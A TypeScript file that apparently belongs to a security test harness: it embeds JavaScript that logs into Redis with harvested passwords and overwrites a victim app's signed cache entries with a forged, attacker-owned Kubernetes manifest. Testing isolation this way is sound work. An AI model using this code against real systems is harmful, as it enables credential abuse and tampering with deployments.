/**
 * The attack hook's follow-through (spliced into ATTACK_HOOK, lib/attack-hook.ts): with a Redis
 * password and signing keys it found, log into Redis and write the attacker's manifest over each
 * of the victim app's cache entries, correctly signed. The hook does not know the service's
 * version: it signs in the format (result v1: key name and payload; v2: also the cache key) and
 * with the key (file read as bytes, or as UTF-8 text) under which the real entry verifies, so a
 * forged entry is exactly what the service itself would have written.
 */
export const FORGE_VICTIM_ENTRIES = String.raw`
const resp = args => Buffer.concat(['*' + args.length + '\r\n', ...args.flatMap(a => ['$' + Buffer.byteLength(a) + '\r\n', a, '\r\n'])].map(p => Buffer.from(p)));
const parseReply = (b, i) => { // [value, end] or undefined while incomplete
  const eol = b.indexOf('\r\n', i);
  if (eol < 0) return undefined;
  const type = String.fromCharCode(b[i]), line = b.toString('latin1', i + 1, eol);
  if (type === '$') return Number(line) < 0 ? [null, eol + 2] : b.length < eol + 4 + Number(line) ? undefined : [b.subarray(eol + 2, eol + 2 + Number(line)), eol + 4 + Number(line)];
  if (type !== '*') return [type + line, eol + 2];
  const items = [];
  for (let j = eol + 2; ; ) {
    if (items.length === Number(line)) return [items, j];
    const r = parseReply(b, j);
    if (!r) return undefined;
    items.push(r[0]);
    j = r[1];
  }
};
// One command at a time on one connection; '-closed' once the connection is gone.
const redisAt = (host, port) => {
  const s = net.connect(port, host);
  let buf = Buffer.alloc(0), pending, closed = false;
  const answer = value => { const p = pending; pending = undefined; p?.(value); };
  s.on('data', d => {
    buf = Buffer.concat([buf, d]);
    const r = parseReply(buf, 0);
    if (r) { buf = buf.subarray(r[1]); answer(r[0]); }
  });
  s.on('error', () => {});
  s.on('close', () => { closed = true; answer('-closed'); });
  setTimeout(() => s.destroy(), 5000).unref();
  const call = (...args) => closed ? Promise.resolve('-closed') : new Promise(resolve => { pending = resolve; s.write(resp(args)); });
  return { call, end: () => s.end() };
};
const sign = (key, parts) => {
  const h = crypto.createHmac('sha256', key);
  for (const p of parts) { const b = Buffer.from(p); const len = Buffer.alloc(8); len.writeBigUInt64BE(BigInt(b.length)); h.update(len); h.update(b); }
  return h.digest();
};
const formats = {
  v1: (k, payload) => ['cmp-offload/result/v1', k, payload],
  v2: (k, payload) => ['cmp-offload/result/v2', k, k.slice(k.lastIndexOf(':') + 1), payload],
};
async function forgeVictimEntries(host, port, passwords, keys) {
  if (passwords.length === 0) return 'no password found';
  const r = redisAt(host, port);
  try {
    let authed = false;
    for (const pw of passwords) if ((await r.call('AUTH', pw)) === '+OK') { authed = true; break; }
    if (!authed) return 'Redis login failed';
    const listed = await r.call('KEYS', '{cmp-offload}:out:hostile:victim:*');
    const entries = Array.isArray(listed) ? listed.map(String) : [];
    const manifest = JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'victim' }, data: { owner: 'attacker' } });
    const payload = zlib.gzipSync(JSON.stringify({ kind: 'generate', manifests: [manifest] }));
    const forged = [];
    for (const entry of entries) {
      const real = await r.call('GET', entry);
      if (!Buffer.isBuffer(real)) continue;
      // 'CMPR1', a 32-byte HMAC, the gzipped result.
      const how = keys.flatMap(key => Object.entries(formats).map(([name, parts]) => ({ key, name, parts })))
        .find(c => sign(c.key, c.parts(entry, real.subarray(37))).equals(real.subarray(5, 37)));
      if (!how) continue;
      const value = Buffer.concat([Buffer.from('CMPR1'), sign(how.key, how.parts(entry, payload)), payload]);
      if ((await r.call('SET', entry, value, 'PX', '600000')) === '+OK') forged.push(how.name);
    }
    return 'AUTH ok, ' + keys.length + ' key(s), ' + entries.length + ' victim entr(y/ies), forged: ' + (forged.join(',') || 'none');
  } finally {
    r.end();
  }
}
`;
